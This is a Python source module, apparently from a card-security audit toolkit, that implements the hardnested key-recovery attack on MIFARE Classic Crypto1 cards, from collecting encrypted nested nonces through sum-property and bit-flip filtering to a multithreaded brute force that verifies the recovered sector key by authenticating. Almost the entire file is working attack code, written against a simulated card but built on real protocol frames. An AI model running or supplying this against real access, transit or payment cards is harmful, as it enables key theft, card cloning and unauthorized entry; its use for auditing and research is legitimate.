"""The hardnested attack (Meijer & Verdult, CCS 2015): a sector key of a card whose nonces cannot be predicted,
from one known key, through nested authentications only (docs/research/hardnested.md).

A nested authentication to the target sector answers the tag nonce encrypted, {nT}, with four encrypted parity
bits. The initial cipher state of that authentication is the target key itself, split into its odd and even
halves (``cardsim.crypto1.Crypto1``). Each nonce gives, for byte k, the bit
``a_k = parity(keystream byte k) ^ keystream bit 8k+8``, read off {nT} and its parity bits.

- Sum property: over the 256 values of the first encrypted byte, ``Sum(a0) = p(16 - q) + (16 - p)q``, where p
  depends only on the 20 low bits of the odd half and q on those of the even half (the fed bits of the first
  byte range over all 256 values whatever the state; the odd half meets the odd-numbered ones, the even half the
  even-numbered ones). Collecting nonces until every first byte has been seen makes Sum(a0) exact, and only
  (p, q) pairs that give it are kept.
- Bit-flip properties: flipping bit j of the first encrypted byte flips the fed bit j. For j = 7, 6, 5, 4,
  whatever that changes before a0 is complete it changes through the filter's first input (bit 0 of the half
  the filter reads, at clocks j+1, j+3, ... up to 8), and whether fc can feel that input depends only on 16 bits
  of one half (odd for clocks 8 and 6, even for 7 and 5). When the half cannot feel it, no pair v, v ^ 1<<j
  gives different a0 bits; when it can, some pair does (exact for j = 7 and 6 by counting, and found for every
  one of thousands of random states checked for 5 and 4). For j < 4 the bit reaches a feedback tap and no single
  half decides it.
- Second-byte sum property (``sum8_plan``): after a chosen first byte B the halves' 20 low bits hold the
  initial halves' (bits 4..23) and decide Sum(a8) of B's second bytes the same way, so in the states after B
  Sum(a0), Sum(a8) and the flips all split by halves. Sum(a8) is guessed from the second bytes seen after B
  (collected on to ``SUM8_SAMPLES`` at full size), the guesses searched in order of likelihood.
- What is left, odd x even, is brute-forced in C (``audit._hardnested``, both cores): a state survives when it
  explains every parity bit of the collected nonces; the survivor is checked by authenticating. States after B
  go through ``brute_force8`` (bitsliced, 256 a vector; rolled back over B when they pass B's nonces).

``known_key_bits = (mask, value)`` fixes key bits (a test-size search: CI fixes most of the key).
"""

from __future__ import annotations

import math
import os
import time
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np

from audit._hardnested import brute_force, brute_force8, half_sums
from audit.m1_attacks import AttackFailed, nested_request, try_key
from cardsim.crypto1 import FA, FB, FC, MASK24, Crypto1
from cardsim.mifare import Frame
from terminals.m1 import FrameSlot, M1Chip, M1Error, M1Reader

BRUTE_NONCES = 24  # 96 parity bits: a wrong 48-bit state passes them with chance 2^-96
MAX_NONCES = 20_000  # ~1,600 show every first byte; far more means the nonces are not random
# The bit-flip properties: (flip mask of the first byte, the half that decides it, clocks it is felt at): bit 7
# at clock 8, bit 5 at 6 and 8 (odd half); bit 6 at 7, bit 4 at 5 and 7 (even half).
FLIPS = ((0x80, "odd", 1), (0x20, "odd", 2), (0x40, "even", 1), (0x10, "even", 2))
CHUNK_SECONDS = 1.0  # one brute-force call between progress lines and budget checks
# Sum(a8): after every first byte is seen, a full-size search collects on until one first byte has this many
# distinct second bytes (or the budget or MAX_NONCES stops it), so that its Sum(a8) is guessed well.
SUM8_SAMPLES = 48
SUM8_FROM_BITS = 37  # collect on for Sum(a8) only when at least this many key bits are unknown

Progress = Callable[[str], None]


def _a_bits(enc: int, parities: tuple[int, ...]) -> int:
    """Bit k: parity(keystream byte k) ^ keystream bit 8k+8, from {nT} and its encrypted parity bits (each
    parity bit is the odd parity of the plain byte, encrypted with the keystream bit after that byte)."""
    bits = 0
    for k in range(4):
        byte = (enc >> (24 - 8 * k)) & 0xFF
        bits |= (parities[k] ^ 1 ^ (byte.bit_count() & 1)) << k
    return bits


def _half_values(mask: int, value: int) -> np.ndarray:
    """Every 24-bit half that has ``value`` at the bits of ``mask``, as uint32 (built from two tables of the low
    and the high free bits, one pass over the result: the full-size list is 2^24 long)."""
    free = [bit for bit in range(24) if not mask >> bit & 1]
    low, high = free[: len(free) // 2], free[len(free) // 2 :]

    def spread(bits: list[int]) -> np.ndarray:
        count = np.arange(1 << len(bits), dtype=np.uint32)
        out = np.zeros_like(count)
        for j, bit in enumerate(bits):
            out |= ((count >> np.uint32(j)) & np.uint32(1)) << np.uint32(bit)
        return out

    halves: np.ndarray = (np.uint32(value) | spread(high)[:, None] | spread(low)[None, :]).ravel()
    return halves


def _filter_feels_first_input(halves: np.ndarray, clocks: int) -> np.ndarray:
    """Per half: whether a bit fed in the first byte can reach the parity bit a0, i.e. at one of the ``clocks``
    last clocks up to 8 at which it is the filter's first input, fc differs with that input while its other
    four come from 16 bits of the half (bits 0..15 at the last such clock, 1..16 at the one before)."""
    low = np.arange(1 << 17, dtype=np.uint32)
    nibble = [(low >> np.uint32(4 * i)) & np.uint32(0xF) for i in range(4)]
    rest = ((FA >> nibble[0]) & 1) << 3 | ((FB >> nibble[1]) & 1) << 2 | ((FB >> nibble[2]) & 1) << 1
    rest |= (FA >> nibble[3]) & 1
    feels_at = ((FC >> rest) ^ (FC >> (rest | 16))) & 1 == 1  # fc's first input felt, by the 16 bits above it
    feels: np.ndarray = np.zeros(halves.shape, dtype=bool)
    for shift in range(clocks):
        feels |= feels_at[(halves >> np.uint32(shift)) & np.uint32(0xFFFF)]
    return feels


class NestedNonces:
    """Nested nonces of one target sector: the a0 bit of each first encrypted byte seen, and the first
    ``BRUTE_NONCES`` distinct nonces with their a bits, which the brute force checks."""

    def __init__(self) -> None:
        self.count = 0
        self.a0: dict[int, int] = {}
        self.nonces: dict[int, int] = {}  # {nT} -> a bits
        self.a8: dict[int, dict[int, int]] = {}  # first byte -> {second byte: a8 bit}
        self.by_first: dict[int, dict[int, tuple[int, int]]] = {}  # first byte -> {second byte: ({nT}, a bits)}

    def add(self, enc: int, parities: tuple[int, ...]) -> None:
        """One encrypted nonce and its four encrypted parity bits; AttackFailed when a first byte (or first two
        bytes) come with both a0 (a8) readings (for one key the bit is a function of the bytes: the frames are
        not clean)."""
        a = _a_bits(enc, parities)
        first, second = enc >> 24, enc >> 16 & 0xFF
        if self.a0.get(first, a & 1) != a & 1:
            raise AttackFailed(f"first byte {first:02X} came with both parity readings: frames are not clean")
        a8 = self.a8.setdefault(first, {})
        if a8.get(second, a >> 1 & 1) != a >> 1 & 1:
            raise AttackFailed(f"first bytes {first:02X}{second:02X} came with both a8 readings: frames are not clean")
        self.count += 1
        self.a0[first] = a & 1
        a8[second] = a >> 1 & 1
        if len(self.nonces) < BRUTE_NONCES:
            self.nonces[enc] = a
        self.by_first.setdefault(first, {}).setdefault(second, (enc, a))

    def most_second_bytes(self) -> int:
        """The most distinct second bytes seen after one first byte."""
        return max((len(seconds) for seconds in self.a8.values()), default=0)

    def sum_a0(self) -> int:
        """Sum(a0): exact once every first byte has been seen."""
        return sum(self.a0.values())

    def flip_differs(self, mask: int) -> bool:
        """Whether some pair of first bytes that differ in the bits of ``mask`` gave different a0 bits."""
        return any(self.a0[v] != self.a0[v ^ mask] for v in self.a0 if v ^ mask in self.a0)

    def first_checks(self, uid: int, first: int, sum8: int = 128) -> tuple[bytes, bytes]:
        """brute_force8's checks of the first byte ``first``: uid ^ {nT} of one nonce per second byte seen, and
        its a bits; under a guess ``sum8`` the nonces whose a8 is the rarer value come first (a wrong state of
        that guess passes such a check a quarter of the time at Sum(a8) = 192, against three quarters for the
        other: twice the rate measured)."""
        rare = 0 if sum8 > 128 else 1
        mine = sorted(self.by_first[first].values(), key=lambda item: (item[1] >> 1 & 1) != rare)
        return np.array([uid ^ enc for enc, _ in mine], dtype=np.uint32).tobytes(), bytes(a for _, a in mine)

    def checks(self, uid: int) -> tuple[bytes, bytes]:
        """The brute force's inputs: uid ^ {nT} per nonce (native uint32) and its a bits (a byte each)."""
        return np.array([uid ^ enc for enc in self.nonces], dtype=np.uint32).tobytes(), bytes(self.nonces.values())


def _target_nonce(
    chip: M1Chip, uid: int, known: tuple[int, int, int], target: tuple[int, int]
) -> tuple[int, tuple[int, ...]]:
    """({nT}, parities) of the target: authenticate with the known key, request the target in that session, then
    leave it unanswered (an empty frame: the card is selected again without a power cycle). Unlike
    ``m1_attacks.nested_attack``, which powers the card up for every nonce so that a weak PRNG starts from its
    known place, the field stays on: a weak PRNG runs on, so its nonces vary too."""
    reader = M1Reader(chip, uid)
    reader.authenticate(known[0], known[1], known[2])
    answer = nested_request(chip, reader, target)
    chip.transceive(Frame(b""))
    return answer


def collect_nested_nonces(
    chip: M1Chip,
    uid: int,
    known: tuple[int, int, int],
    target: tuple[int, int],
    deadline: float | None = None,
    progress: Progress = lambda _: None,
    sum8_samples: int = 0,
) -> NestedNonces:
    """Nested authentications to ``target`` = (block, key type) from ``known`` = (block, key, key type) until
    every first encrypted byte has been seen (~1,600 on average), then on until some first byte has
    ``sum8_samples`` distinct second bytes (for its Sum(a8); the deadline or MAX_NONCES end that part quietly);
    ``deadline`` is a ``time.monotonic()``."""
    nonces = NestedNonces()
    chip.power_on()
    while len(nonces.a0) < 256 or nonces.most_second_bytes() < sum8_samples:
        if len(nonces.a0) == 256 and (
            nonces.count >= MAX_NONCES or (deadline is not None and time.monotonic() > deadline)
        ):
            break
        if deadline is not None and time.monotonic() > deadline:
            raise AttackFailed(
                f"budget ran out while collecting nonces: {nonces.count} nonces, {len(nonces.a0)} of 256 first "
                "bytes seen"
            )
        if nonces.count >= MAX_NONCES or (nonces.count >= 256 and len(nonces.nonces) < 2):
            raise AttackFailed(
                f"{nonces.count} nonces show only {len(nonces.a0)} of 256 first bytes: the target's nonces "
                "do not vary (a static-nonce card needs static nested)"
            )
        try:
            enc, parities = _target_nonce(chip, uid, known, target)
        except M1Error as e:
            raise AttackFailed(f"the known key does not open block {known[0]}: {e}") from e
        nonces.add(enc, parities)
        if nonces.count % 256 == 0 and len(nonces.a0) < 256:
            progress(f"hardnested: {nonces.count} nonces, {len(nonces.a0)} of 256 first bytes seen")
        elif nonces.count % 1024 == 0:
            progress(
                f"hardnested: {nonces.count} nonces, every first byte seen, at most {nonces.most_second_bytes()} "
                f"of the {sum8_samples} second bytes after one that Sum(a8) wants"
            )
    progress(
        f"hardnested: {nonces.count} nonces collected, every first byte seen, at most "
        f"{nonces.most_second_bytes()} second bytes after one"
    )
    return nonces


def _groups(halves: np.ndarray, counts: np.ndarray) -> dict[int, np.ndarray]:
    """The halves by their sum-property count (p or q, read off their 20 low bits); empty groups left out."""
    of = counts[halves & np.uint32(0xFFFFF)]
    groups = {int(c): halves[of == c] for c in np.unique(of)}
    return groups


def candidate_states(
    nonces: NestedNonces, known_key_bits: tuple[int, int] | None = None
) -> list[tuple[np.ndarray, np.ndarray]]:
    """(odd halves, even halves) lists whose products hold every initial state (the key) that the sum and
    bit-flip properties of ``nonces`` allow and that has the bits ``known_key_bits`` = (mask, value) fixes.
    The lists are shared between pairs (full size: ~130 MB in all)."""
    mask, value = known_key_bits or (0, 0)
    masks, values = Crypto1.from_key(mask), Crypto1.from_key(value)
    halves = {"odd": _half_values(masks.odd, values.odd), "even": _half_values(masks.even, values.even)}
    for flip, half, clocks in FLIPS:
        halves[half] = halves[half][_filter_feels_first_input(halves[half], clocks) == nonces.flip_differs(flip)]
    odd, even = halves["odd"], halves["even"]
    p_table, q_table = (np.frombuffer(t, dtype=np.uint8) for t in half_sums())
    odd_by_p, even_by_q = _groups(odd, p_table), _groups(even, q_table)
    pairs = []
    for p, odd_p in odd_by_p.items():
        for q, even_q in even_by_q.items():
            if p * (16 - q) + (16 - p) * q == nonces.sum_a0():
                pairs.append((odd_p, even_q))
    return pairs


def _sum(p: int, q: int) -> int:
    return p * (16 - q) + (16 - p) * q


def _keyed_groups(halves: np.ndarray, keys: np.ndarray) -> dict[int, np.ndarray]:
    """The halves by key (one sort, then slices of it); empty groups left out."""
    order = np.argsort(keys, kind="stable")
    halves, keys = halves[order], keys[order]
    values, starts = np.unique(keys, return_index=True)
    ends = [*starts[1:], len(keys)]
    return {int(v): halves[a:b] for v, a, b in zip(values, starts, ends, strict=True)}


@dataclass
class Sum8Guess:
    """One guess of Sum(a8) of the chosen first byte: its likelihood given that byte's second bytes, and the
    (odd, even) lists of states *after the first byte* that the guess, Sum(a0) and the flips leave."""

    sum8: int
    likelihood: float
    space: int
    pairs: list[tuple[np.ndarray, np.ndarray]]


@dataclass
class Sum8Plan:
    """The search over states after first byte ``first``: the guesses in the order to try them (the most likely
    first), their posterior probabilities and the expected number of states tried before the key."""

    first: int
    guesses: list[Sum8Guess]
    posterior: list[float]
    expected: float

    @property
    def space(self) -> int:
        return sum(g.space for g in self.guesses)


def _hypergeometric(total: int, seen: int, ones: int) -> float:
    """P(``ones`` ones among ``seen`` distinct second bytes | ``total`` of the 256 give a8 = 1)."""
    if ones > total or seen - ones > 256 - total:
        return 0.0
    return math.comb(total, ones) * math.comb(256 - total, seen - ones) / math.comb(256, seen)


def sum8_plan(nonces: NestedNonces, known_key_bits: tuple[int, int] | None = None) -> Sum8Plan:
    """The second-byte sum property. Fix a first encrypted byte B: after its 8 clocks, the state's odd half is
    the initial odd half shifted 4 places with 4 fed-back bits below (the even half likewise), so the initial
    halves' 20 low bits, which decide p, q and the flips, are bits 4..23 of the halves after B; and over the
    256 second bytes the same sum property holds for that state, Sum(a8) = p8(16 - q8) + (16 - p8)q8, with p8
    and q8 read off the 20 low bits of its halves. So in the states after B both sums split by halves. Sum(a8)
    is guessed from the second bytes seen after B (hypergeometric likelihood; the guesses that cannot give what
    was seen are dropped, the others tried in order of likelihood, which is the order of least expected work),
    and B is the first byte whose guesses leave the fewest states to try on average. ``known_key_bits`` must
    leave the 4 high bits of both initial halves open (their place after B is taken by the fed-back bits)."""
    mask, value = known_key_bits or (0, 0)
    masks, values = Crypto1.from_key(mask), Crypto1.from_key(value)
    if masks.odd >> 20 or masks.even >> 20:
        raise ValueError("sum8_plan needs the 4 high bits of both halves open")
    p_table, q_table = (np.frombuffer(t, dtype=np.uint8).astype(np.int32) for t in half_sums())
    halves = {
        "odd": _half_values((masks.odd & 0xFFFFF) << 4, (values.odd & 0xFFFFF) << 4),
        "even": _half_values((masks.even & 0xFFFFF) << 4, (values.even & 0xFFFFF) << 4),
    }
    for flip, half, clocks in FLIPS:
        feels = _filter_feels_first_input(halves[half] >> np.uint32(4), clocks)
        halves[half] = halves[half][feels == nonces.flip_differs(flip)]
    by_sum8 = _by_sum8(halves, nonces.sum_a0(), p_table, q_table)
    best = min((_plan(first, seconds, by_sum8) for first, seconds in nonces.a8.items()), key=lambda plan: plan.expected)
    # second-byte flips after B: a pair of second bytes v, v ^ mask with different a8 bits means the half after B
    # can feel that bit (the first-byte argument, from the state after B); the converse would need every pair
    # seen, so only this side cuts
    seconds = nonces.a8[best.first]
    cut = False
    for flip, half, clocks in FLIPS:
        if any(seconds[v] != seconds[v ^ flip] for v in seconds if v ^ flip in seconds):
            halves[half] = halves[half][_filter_feels_first_input(halves[half], clocks)]
            cut = True
    if cut:
        best = _plan(best.first, seconds, _by_sum8(halves, nonces.sum_a0(), p_table, q_table))
    return best


def _by_sum8(
    halves: dict[str, np.ndarray], sum_a0: int, p_table: np.ndarray, q_table: np.ndarray
) -> dict[int, list[tuple[np.ndarray, np.ndarray]]]:
    """The (odd, even) lists of states after the first byte that give ``sum_a0``, by the Sum(a8) they give."""
    groups = {}
    for half, table in (("odd", p_table), ("even", q_table)):
        h = halves[half]
        groups[half] = _keyed_groups(
            h, table[(h >> np.uint32(4)) & np.uint32(0xFFFFF)] * 17 + table[h & np.uint32(0xFFFFF)]
        )
    by_sum8: dict[int, list[tuple[np.ndarray, np.ndarray]]] = {}
    for pk, odd in groups["odd"].items():
        for qk, even in groups["even"].items():
            if _sum(pk // 17, qk // 17) == sum_a0:
                by_sum8.setdefault(_sum(pk % 17, qk % 17), []).append((odd, even))
    return by_sum8


def _plan(first: int, seconds: dict[int, int], by_sum8: dict[int, list[tuple[np.ndarray, np.ndarray]]]) -> Sum8Plan:
    """The guesses of first byte ``first`` whose second bytes gave ``seconds`` (second byte -> a8 bit)."""
    spaces = {v: sum(len(o) * len(e) for o, e in pairs) for v, pairs in by_sum8.items()}
    seen, ones = len(seconds), sum(seconds.values())
    like = {v: _hypergeometric(v, seen, ones) for v in by_sum8}
    order = sorted((v for v in by_sum8 if like[v] > 0), key=lambda v: -like[v])
    weights = [spaces[v] * like[v] for v in order]
    total = sum(weights) or 1.0
    posterior = [w / total for w in weights]
    expected, before = 0.0, 0
    for v, prob in zip(order, posterior, strict=True):
        expected += prob * (before + spaces[v] / 2)
        before += spaces[v]
    return Sum8Plan(first, [Sum8Guess(v, like[v], spaces[v], by_sum8[v]) for v in order], posterior, expected)


Work = list[tuple[np.ndarray, np.ndarray, tuple[bytes, bytes] | None]]


def _search(
    nonces: NestedNonces, uid: int, known_key_bits: tuple[int, int] | None, use_sum8: bool
) -> tuple[int, Work, str]:
    """(states in all, the (odd, even, the first byte's checks or None) lists to brute-force in order, a
    progress line's tail): with Sum(a8), the plan's guesses in order over states after its first byte;
    without, the initial states Sum(a0) and the flips leave."""
    work: Work = []
    if not use_sum8:
        pairs = candidate_states(nonces, known_key_bits)
        return sum(len(o) * len(e) for o, e in pairs), [(odd, even, None) for odd, even in pairs], ""
    plan = sum8_plan(nonces, known_key_bits)
    for guess in plan.guesses:
        checks = nonces.first_checks(uid, plan.first, guess.sum8)
        work += [(odd, even, checks) for odd, even in guess.pairs]
    seconds = nonces.a8[plan.first]
    shown = ", ".join(f"{g.sum8} ({p:.0%})" for g, p in zip(plan.guesses[:4], plan.posterior[:4], strict=False))
    line = (
        f"; first byte {plan.first:02X} ({sum(seconds.values())} of {len(seconds)} second bytes give a8 = 1): "
        f"Sum(a8) guesses {shown}{', ...' if len(plan.guesses) > 4 else ''}, "
        f"2^{math.log2(max(plan.expected, 1)):.1f} states expected to be tried"
    )
    return plan.space, work, line


def hardnested_attack(
    chip: M1Chip,
    uid: int,
    known: tuple[int, int, int],
    target: tuple[int, int],
    *,
    max_seconds: float | None = None,
    progress: Progress = lambda _: None,
    known_key_bits: tuple[int, int] | None = None,
) -> int:
    """Recover the key of ``target`` = (block, 0x60|0x61) from ``known`` = (block, key, key type), on any card
    (hardened or not) that answers nested authentications; raw frames only.

    ``known_key_bits`` = (mask, value) fixes the key bits of ``mask`` (a search of test size);
    ``max_seconds`` bounds collection and brute force, ``progress`` gets one line at each step. AttackFailed
    says why it cannot run, or how far it got when the budget ran out.
    """
    start = time.monotonic()
    deadline = None if max_seconds is None else start + max_seconds
    if target[1] not in (0x60, 0x61) or not 0 <= target[0] < 64 or not 0 <= known[0] < 64:
        raise AttackFailed(
            f"hardnested needs blocks 0..63 and a target key type 60 or 61, not known block {known[0]}, target {target}"
        )
    if known_key_bits is not None and (known_key_bits[1] & ~known_key_bits[0] or known_key_bits[0] >> 48):
        raise AttackFailed("known_key_bits: the value has bits outside the 48-bit mask")
    mask = (known_key_bits or (0, 0))[0]
    masks = Crypto1.from_key(mask)
    use_sum8 = not (masks.odd >> 20 or masks.even >> 20)  # Sum(a8) needs the halves' high bits open
    unknown = 48 - mask.bit_count()
    samples = SUM8_SAMPLES if use_sum8 and unknown >= SUM8_FROM_BITS else 0
    nonces = collect_nested_nonces(chip, uid, known, target, deadline, progress, samples)
    flips = " ".join(f"{m:02X}" for m, _, _ in FLIPS if nonces.flip_differs(m)) or "none"
    fed, targets = nonces.checks(uid)
    space, work, sum8_line = _search(nonces, uid, known_key_bits, use_sum8)
    if space == 0:
        raise AttackFailed("no state fits the nonces (the known key bits are wrong?)")
    progress(
        f"hardnested: Sum(a0) = {nonces.sum_a0()}, first-byte flips that change a0: {flips}: "
        f"2^{math.log2(space):.1f} states left of 2^{unknown}{sum8_line}"
    )
    cores = len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else os.cpu_count() or 1
    threads = min(cores, 64)  # the C brute force takes at most 64 threads
    done, rate, started = 0, 0.0, time.monotonic()
    for odd, even, first_checks in work:
        step = max(1, min(len(odd), int((rate or 2e7) * CHUNK_SECONDS) // len(even)))
        even_bytes = even.tobytes()
        for i in range(0, len(odd), step):
            if deadline is not None and time.monotonic() > deadline:
                left = (space - done) / rate if rate else float("inf")
                raise AttackFailed(
                    f"budget of {max_seconds:g} s ran out: brute-forced {done / space:.1%} of 2^{math.log2(space):.1f} "
                    f"states at {rate / 1e6:.1f} M/s, ~{left:.0f} s more needed at most"
                )
            chunk = odd[i : i + step]
            if first_checks is None:
                found = brute_force(chunk.tobytes(), even_bytes, fed, targets, threads)
            else:
                found = brute_force8(chunk.tobytes(), even_bytes, *first_checks, fed, targets, threads)
            for state in found:
                key = int(Crypto1(state >> 24, state & MASK24).lfsr())
                if try_key(FrameSlot(chip), target[0], key, target[1]):
                    progress(f"hardnested: key {key:012X} after {time.monotonic() - start:.1f} s")
                    return key
            done += len(chunk) * len(even)
            rate = done / max(time.monotonic() - started, 1e-9)
            progress(
                f"hardnested: brute force {done / space:.1%} of 2^{math.log2(space):.1f}, {rate / 1e6:.1f} M/s, "
                f"ETA {(space - done) / rate:.0f} s at most"
            )
    raise AttackFailed(f"all 2^{math.log2(space):.1f} states tried, none authenticates")
